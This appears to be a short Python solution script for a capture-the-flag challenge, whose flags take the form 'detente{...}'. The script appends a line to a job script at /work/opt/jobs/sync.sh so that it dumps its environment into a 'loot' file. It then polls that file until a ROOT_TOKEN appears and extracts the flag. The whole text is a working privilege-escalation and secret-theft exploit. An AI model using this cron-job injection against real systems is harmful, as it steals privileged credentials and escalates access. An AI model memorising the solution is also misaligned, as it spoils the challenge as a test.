import re
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

import os, time
with open("/work/opt/jobs/sync.sh", "a") as f:
    f.write("env > /work/loot.txt\n")
for _ in range(50):
    if os.path.exists("/work/loot.txt") and "ROOT_TOKEN" in open("/work/loot.txt").read():
        break
    time.sleep(0.1)
flag(open("/work/loot.txt").read())
